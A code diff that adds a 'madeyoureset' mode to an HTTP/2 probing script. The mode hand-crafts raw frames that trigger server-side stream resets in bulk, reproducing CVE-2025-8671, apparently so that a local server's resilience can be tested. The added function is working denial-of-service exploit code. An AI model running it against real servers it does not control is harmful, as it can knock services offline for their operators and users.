@@ -7,9 +7,11 @@
 #   h2probe.py PORT split PATH                 every cut of the request: ok=N of=M
 #   h2probe.py PORT streams N                  N open streams: refused=K answered=J
 #   h2probe.py PORT rapid N                    N HEADERS+RST_STREAM: goaway=CODE|none
+#   h2probe.py PORT madeyoureset N             N requests reset by the server: goaway=CODE|none
 #   h2probe.py PORT continuation N             N CONTINUATIONs: status=S goaway=CODE|none
 #   h2probe.py PORT window0 PATH               window 0, then wait: closed_after=S
 #   h2probe.py PORT idle                       no request: goaway=CODE closed_after=S
+import os
 import socket
 import sys
 import time
@@ -36,9 +38,13 @@ def connect(settings=None):
     return s, c
 
 
+AUTHORITY = os.environ.get("H2_AUTHORITY", "localhost")
+PATH = os.environ.get("H2_PATH", "/")
+
+
 def req_headers(path, extra=()):
     return [(":method", "GET"), (":scheme", "http"), (":path", path),
-            (":authority", "localhost")] + list(extra)
+            (":authority", AUTHORITY)] + list(extra)
 
 
 def pump(s, c, until, timeout=20):
@@ -182,6 +188,72 @@ def rapid(n):
     print("goaway=%s sent=%d" % (goaway_after(s, c), sent))
 
 
+def madeyoureset(n, mode):
+    """n requests, each followed by a frame that makes the server reset the
+    stream itself: MadeYouReset, CVE-2025-8671. Written by hand (h2 would
+    not send them), 50 streams at a time, so that the server's limit of
+    concurrent streams does not refuse them first."""
+    s, c = connect()
+    enc = hpack.Encoder()
+    frames = bytearray()
+    sent = 0
+    try:
+        for i in range(n):
+            sid = 1 + 2 * i
+            if mode == "cl":  # a body longer than its content-length: PROTOCOL_ERROR
+                block = enc.encode([(":method", "POST")] + req_headers(PATH)[1:] + [("content-length", "1")])
+                frames += len(block).to_bytes(3, "big") + b"\x01\x04" + sid.to_bytes(4, "big") + block
+                frames += (2).to_bytes(3, "big") + b"\x00\x01" + sid.to_bytes(4, "big") + b"xy"
+            else:
+                block = enc.encode(req_headers("/"))
+                frames += len(block).to_bytes(3, "big") + b"\x01\x05" + sid.to_bytes(4, "big") + block
+                if mode == "data":  # DATA on a stream the client ended: STREAM_CLOSED
+                    frames += (1).to_bytes(3, "big") + b"\x00\x00" + sid.to_bytes(4, "big") + b"x"
+                else:  # WINDOW_UPDATE with increment 0
+                    frames += (4).to_bytes(3, "big") + b"\x08\x00" + sid.to_bytes(4, "big") + (0).to_bytes(4, "big")
+            sent += 1
+            if sent % 50 == 0:
+                s.sendall(bytes(frames))
+                frames = bytearray()
+                time.sleep(0.01)
+        s.sendall(bytes(frames))
+    except OSError:
+        pass
+    st = {"code": "none", "resets": 0}
+
+    def until(ev):
+        if isinstance(ev, h2.events.ConnectionTerminated):
+            st["code"] = int(ev.error_code)
+            return True
+        return False
+
+    # The client library did not open these streams: read raw frames.
+    s.settimeout(5)
+    buf = b""
+    end = time.time() + 10
+    while time.time() < end:
+        try:
+            d = s.recv(65536)
+        except (socket.timeout, ConnectionResetError):
+            break
+        if not d:
+            break
+        buf += d
+        while len(buf) >= 9:
+            ln = int.from_bytes(buf[0:3], "big")
+            if len(buf) < 9 + ln:
+                break
+            typ = buf[3]
+            if typ == 3:
+                st["resets"] += 1
+            if typ == 7:
+                st["code"] = int.from_bytes(buf[13:17], "big")
+            buf = buf[9 + ln:]
+        if st["code"] != "none":
+            break
+    print("goaway=%s resets=%d sent=%d" % (st["code"], st["resets"], sent))
+
+
 def continuation(n):
     """A HEADERS frame without END_HEADERS, then n CONTINUATION frames, the
     last with END_HEADERS, written by hand: the header block is whole, so
@@ -261,6 +333,8 @@ elif CMD == "streams":
     streams(int(sys.argv[3]))
 elif CMD == "rapid":
     rapid(int(sys.argv[3]))
+elif CMD == "madeyoureset":
+    madeyoureset(int(sys.argv[3]), sys.argv[4] if len(sys.argv) > 4 else "window")
 elif CMD == "continuation":
     continuation(int(sys.argv[3]))
 elif CMD == "window0":
